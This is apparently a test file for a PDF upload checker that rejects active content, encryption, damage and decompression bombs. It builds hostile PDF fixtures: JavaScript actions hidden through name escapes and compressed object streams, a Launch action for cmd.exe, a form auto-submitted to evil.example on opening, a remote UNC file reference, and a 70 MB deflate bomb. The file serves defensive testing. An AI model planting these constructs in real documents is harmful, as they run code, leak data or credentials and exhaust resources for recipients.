import { deflateSync } from 'node:zlib';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { sampleFiles } from '../../test/sample-files.ts';
import { bytesInMemory } from './file-bytes.ts';
import { pdfFault } from './pdf-contents.ts';

const faultOf = (bytes: Buffer) => pdfFault(bytesInMemory(bytes));

const pdf = (...objects: readonly (string | Buffer)[]) =>
  Buffer.concat([
    Buffer.from('%PDF-1.7\n'),
    ...objects.map((object) => Buffer.concat([Buffer.from(object as string), Buffer.from('\n')])),
    Buffer.from('trailer<<>>\n%%EOF\n'),
  ]);

const packed = (inner: string, head = '/Filter /FlateDecode') => {
  const bytes = deflateSync(Buffer.from(inner));
  return Buffer.concat([
    Buffer.from(`7 0 obj\n<< /Type /ObjStm /N 1 /First 4 ${head} /Length ${bytes.length} >>\nstream\n`),
    bytes,
    Buffer.from('\nendstream endobj'),
  ]);
};

const action = '<< /S /JavaScript /JS (app.alert(1)) >>';

const hostile: readonly (readonly [string, Buffer, string])[] = [
  ['a script', pdf(`1 0 obj ${action} endobj`), 'active-content'],
  [
    'a script whose name is written in digits',
    pdf('1 0 obj << /S /J#61va#53cript >> endobj'),
    'active-content',
  ],
  ['a script in packed objects', pdf(packed(`1 0 ${action}`)), 'active-content'],
  ['a script in the second of two packs', pdf(packed('1 0 <<>>'), packed(`1 0 ${action}`)), 'active-content'],
  ['something that starts a program', pdf('1 0 obj << /S /Launch /F (cmd.exe) >> endobj'), 'active-content'],
  ['another file inside', pdf('1 0 obj << /Type /EmbeddedFile >> endobj'), 'active-content'],
  ['a film', pdf('1 0 obj << /Subtype /RichMedia >> endobj'), 'active-content'],
  ['a form of the old kind', pdf('1 0 obj << /XFA [ (a) 2 0 R ] >> endobj'), 'active-content'],
  [
    'a script of a rendition',
    pdf('1 0 obj << /OpenAction 4 0 R >> endobj', '4 0 obj<</S/Rendition/OP 0>>endobj'),
    'active-content',
  ],
  ['a script as a text', pdf('1 0 obj << /JS(app.alert\\(1\\)) >> endobj'), 'active-content'],
  ['a script as a text of other letters', pdf(packed('1 0 << /JS <FEFF006100 >')), 'active-content'],
  ['a script in an object of its own', pdf('1 0 obj << /J#53 5 0 R >> endobj'), 'active-content'],
  ['a script of a model in space', pdf('1 0 obj << /Type /3D /OnInstantiate 5 0 R >>'), 'active-content'],
  ['a file without its type', pdf('1 0 obj << /F (a.exe) /EF << /F 5 0 R >> >>'), 'active-content'],
  [
    'a form that sends itself on opening',
    pdf('1 0 obj<</OpenAction<</S/SubmitForm/F(http://evil.example/)>>>>endobj'),
    'active-content',
  ],
  [
    'another file that is opened on opening',
    pdf('1 0 obj<</OpenAction 4 0 R>>endobj', '4 0 obj<</S/GoToR/F(\\\\\\\\evil\\\\a.pdf)>>endobj'),
    'active-content',
  ],
  [
    'the same on showing a page, in packed objects',
    pdf('1 0 obj<</Type/Page/AA<</O 4 0 R>>>>endobj', packed('4 0 <</S/GoToR/F(a.pdf)>>')),
    'active-content',
  ],
  [
    'a form that sends itself, all of it packed',
    pdf(packed('1 0 <</AA 5 0 R>>'), packed('5 0 <</O<</S/Submit#46orm>>>>')),
    'active-content',
  ],
  ['a lock', pdf('trailer << /Encrypt 5 0 R >>'), 'locked'],
  [
    'packed objects that do not unpack',
    pdf('7 0 obj\n<< /Type /ObjStm /Filter /FlateDecode >>\nstream\nnot packed\nendstream'),
    'damaged',
  ],
  ['objects packed twice', pdf(packed(action, '/Filter [/ASCIIHexDecode /FlateDecode]')), 'damaged'],
  [
    'objects packed with a predictor',
    pdf(packed(action, '/Filter /FlateDecode /DecodeParms << /Predictor 12 >>')),
    'damaged',
  ],
  [
    'a head with a remark that hides its begin',
    pdf(packed(action, '/Filter /FlateDecode /A (1 0 obj <<)')),
    'damaged',
  ],
  ['a bomb', pdf(packed(' '.repeat(70 * 1024 * 1024))), 'unpacks-too-large'],
];

describe('does not take', () => {
  test.each(hostile)('%s', async (_what, bytes, fault) => {
    expect(await faultOf(bytes)).toBe(fault);
  });
});

test.each([
  ['a small one', sampleFiles.pdf],
  ['one with packed objects', pdf(packed('1 0 << /Type /Page >>'))],
  [
    'one whose packed objects are not packed',
    pdf('7 0 obj\n<< /Type /ObjStm /N 1 /First 4 >>\nstream\n1 0 <<>>\nendstream'),
  ],
  [
    'one that only speaks of such things',
    pdf('4 0 obj << >> stream\n(JavaScript, Launch and /JavaScripts) Tj\nendstream'),
  ],
  [
    'one with links to the web, to other files and to its own pages, opened at a place',
    pdf(
      '1 0 obj<</OpenAction [3 0 R /Fit]>>endobj',
      '4 0 obj<</Subtype/Link/A<</S/URI/URI(https://x.example/)>>>>endobj',
      '5 0 obj<</Subtype/Link/A<</S/GoToR/F(anlage.pdf)>>>>endobj',
      '6 0 obj<</Subtype/Link/A<</S/GoTo/D[3 0 R /Fit]>>>>endobj',
    ),
  ],
  [
    'one that opens at a place by an action',
    pdf('1 0 obj<</OpenAction 4 0 R>>endobj', '4 0 obj<</S/GoTo>>endobj'),
  ],
  [
    'a form with a button that sends it and one that empties it',
    pdf(
      '1 0 obj<</AcroForm<</Fields[5 0 R]>>>>endobj',
      '5 0 obj<</FT/Btn/A<</S/SubmitForm/F(https://x.example/)/Flags 4>>>>endobj',
      '6 0 obj<</FT/Btn/A<</S/ResetForm>>>>endobj',
    ),
  ],
  [
    'one in whose points the names of short entries turn up',
    pdf('4 0 obj<<>>stream\n/JS(\u0001x/EF>/AA)/JSX\nendstream'),
  ],
])('takes %s', async (_what, bytes) => {
  expect(await faultOf(bytes)).toBeUndefined();
});

test('never fails, whatever bytes follow the type of packed objects', async () => {
  await fc.assert(
    fc.asyncProperty(
      fc.uint8Array({ maxLength: 200 }),
      fc.uint8Array({ maxLength: 200 }),
      async (before, after) => {
        const bytes = Buffer.concat([
          before,
          Buffer.from('1 0 obj << /Type /ObjStm /Filter /FlateDecode >>\nstream\n'),
          after,
        ]);
        expect(['damaged', 'active-content', 'locked', 'unpacks-too-large', undefined]).toContain(
          await faultOf(bytes),
        );
      },
    ),
  );
});
